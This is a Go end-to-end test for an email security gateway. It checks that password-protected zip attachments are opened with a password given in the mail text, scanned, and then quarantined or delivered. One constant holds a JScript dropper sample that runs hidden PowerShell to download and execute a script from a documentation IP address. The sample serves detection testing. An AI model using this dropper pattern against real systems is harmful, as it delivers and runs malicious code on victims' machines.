package milter_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlockmail/airlock/config"
	"github.com/airlockmail/airlock/gate/gatetest"
	"github.com/airlockmail/airlock/holdqueue"
	"github.com/airlockmail/airlock/verdict"
)

// dropperJS is a benign look-alike of a JScript dropper (its "payload" is
// a documentation address, RFC 5737).
const dropperJS = `var s = new ActiveXObject("WScript.Shell");
s.Run("powershell -nop -w hidden -c iwr http://198.51.100.7/p.ps1 -OutFile $env:TEMP\\p.ps1; & $env:TEMP\\p.ps1");
`

// zipWithPassword packs one file with Info-ZIP's zip -P (ZipCrypto), as
// senders of protected invoices do.
func zipWithPassword(t *testing.T, password, name string, data []byte) []byte {
	t.Helper()
	if _, err := exec.LookPath("zip"); err != nil {
		t.Fatalf("zip not installed (scripts/test installs it): %v", err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("zip", "-q", "-P", password, "out.zip", name)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("zip -P: %v\n%s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "out.zip"))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// mailWithText is a message whose body says text, with one attachment.
func mailWithText(subject, text, name string, data []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "From: <%s>\r\nTo: <%s>\r\nSubject: %s\r\nMessage-ID: <%d@test.example>\r\nMIME-Version: 1.0\r\n", from, to, subject, time.Now().UnixNano())
	b.WriteString("Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n")
	b.WriteString(strings.ReplaceAll(text, "\n", "\r\n") + "\r\n")
	fmt.Fprintf(&b, "--b1\r\nContent-Type: application/zip; name=\"%s\"\r\nContent-Disposition: attachment; filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n", name, name)
	enc := base64.StdEncoding.EncodeToString(data)
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n--b1--\r\n")
	return b.Bytes()
}

// TestPostfixPasswordFromMessage: through the private Postfix, a
// password-protected zip is opened with the password the mail text gives
// (German, French), its member judged and the message acted on by that
// verdict; without the password it stays unscannable.
func TestPostfixPasswordFromMessage(t *testing.T) {
	r := startRig(t)
	c := gatetest.TestConfig()
	c.Policy.Actions.Malicious = config.ActionQuarantine
	c.Policy.Actions.HighlySuspicious = config.ActionQuarantine
	c.Policy.Actions.Suspicious = config.ActionQuarantine
	e := r.backend(t, &c, gatetest.Options{})
	ctx := context.Background()

	quarantined := func(subject string) *holdqueue.Message {
		t.Helper()
		deadline := time.Now().Add(30 * time.Second)
		for time.Now().Before(deadline) {
			p, err := e.Store.List(ctx, holdqueue.Query{State: holdqueue.Quarantined})
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range p.Messages {
				if m.Subject == subject {
					full, err := e.Store.Get(ctx, m.ID)
					if err != nil {
						t.Fatal(err)
					}
					return full
				}
			}
			time.Sleep(50 * time.Millisecond)
		}
		t.Fatalf("%q never quarantined", subject)
		return nil
	}

	t.Run("german text, zip with a JS dropper: quarantined with the dropper's findings", func(t *testing.T) {
		r.t = t
		z := zipWithPassword(t, "Rg-77341", "Rechnung.js", []byte(dropperJS))
		r.mustSend(mailWithText("e2e pw dropper", "Guten Tag,\nanbei die Rechnung.\nDas Passwort lautet: Rg-77341\nMit freundlichen Grüßen", "Rechnung.zip", z))
		m := quarantined("e2e pw dropper")
		var js *holdqueue.File
		for i := range m.Files {
			if strings.HasSuffix(m.Files[i].Path, "Rechnung.js") {
				js = &m.Files[i]
			}
		}
		if js == nil || !js.Verdict.AtLeast(verdict.Suspicious) || js.Summary == "" {
			t.Fatalf("dropper not judged from inside the zip: %+v", m.Files)
		}
		if !historySays(m, "opened with a password found in the message") {
			t.Errorf("history does not say the archive was opened with the message's password: %+v", m.History)
		}
		r.noSubject("e2e pw dropper")
	})

	t.Run("french text, zip with a clean PDF: delivered after the verdict", func(t *testing.T) {
		r.t = t
		z := zipWithPassword(t, "Fac2024!", "facture.pdf", gatetest.PDF())
		r.mustSend(mailWithText("e2e pw pdf", "Bonjour,\nveuillez trouver la facture ci-jointe.\nMot de passe : Fac2024!\nCordialement", "facture.zip", z))
		m := r.waitSubject("e2e pw pdf", 30*time.Second)
		if h := headerLine(m.Data, "X-Airlock-Verdict"); !strings.Contains(h, "clean") {
			t.Errorf("verdict header %q", h)
		}
	})

	t.Run("no password in the text: unscannable as before", func(t *testing.T) {
		r.t = t
		z := zipWithPassword(t, "Fac2024!", "facture.pdf", gatetest.PDF())
		r.mustSend(mailWithText("e2e pw none", "Bonjour,\nveuillez trouver la facture ci-jointe.\nCordialement", "facture.zip", z))
		m := quarantined("e2e pw none")
		if m.Worst() != verdict.Unscannable {
			t.Errorf("worst verdict %s, want unscannable; files %+v", m.Worst(), m.Files)
		}
		r.noSubject("e2e pw none")
	})
	r.t = t
}

func historySays(m *holdqueue.Message, s string) bool {
	for _, h := range m.History {
		if strings.Contains(h.Reason, s) {
			return true
		}
	}
	for _, f := range m.Files {
		if strings.Contains(f.Summary, s) {
			return true
		}
	}
	return false
}
